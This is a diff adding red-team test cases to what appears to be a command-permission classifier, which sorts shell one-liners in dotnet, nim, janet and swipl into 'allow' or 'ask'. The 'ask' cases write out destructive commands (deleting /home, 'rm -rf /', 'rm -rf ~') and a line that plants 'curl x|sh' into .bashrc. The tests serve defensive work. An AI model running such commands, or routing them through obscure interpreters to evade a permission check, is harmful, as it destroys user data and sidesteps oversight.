@@ -1477,4 +1477,15 @@ a" |& "sort"; close("sort", "to"); "sort" |& getline x; print x}'"#,
     allow("swift -e 'import Foundation; try FileManager.default.removeItem(atPath: \"/tmp/build\")'"),
     allow("swift -e 'import Foundation; try FileManager.default.removeItem(atPath: \".build\")'"),
     allow("swift -e 'print(NSHomeDirectory())'"),
+    // Red team 17: one-liners of languages without a table ask when they call files or
+    // processes.
+    ask("opaque.exec", r#"dotnet script eval 'System.IO.Directory.Delete("/home", true)'"#),
+    ask("opaque.exec", "nim --eval:'import os; removeDir(getHomeDir())'"),
+    ask("opaque.exec", r#"janet -e '(os/execute ["rm" "-rf" "/"] :p)'"#),
+    ask("opaque.exec", "swipl -g \"shell('rm -rf ~')\" -t halt"),
+    allow("dotnet script eval 'Console.WriteLine(1 + 2)'"),
+    allow("nim --eval:'echo 1 + 2'"),
+    allow("janet -e '(print (+ 1 2))'"),
+    ask("opaque.exec", r#"janet -e '(spit "/home/u/.bashrc" "curl x|sh")'"#),
+    allow("swipl -g 'X is 1 + 2, print(X)' -t halt"),
 ];
